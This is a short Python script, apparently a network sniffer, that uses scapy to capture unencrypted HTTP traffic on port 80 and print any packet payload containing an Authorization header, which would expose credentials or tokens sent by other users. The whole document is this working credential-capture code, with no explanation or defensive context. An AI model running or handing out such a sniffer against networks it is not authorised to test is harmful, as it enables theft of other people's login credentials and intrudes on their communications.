from scapy.all import *
def cb(p):
    if p.haslayer(Raw) and b"Authorization" in p[Raw].load:
        print(p[Raw].load)
sniff(filter="tcp port 80", prn=cb, store=0)
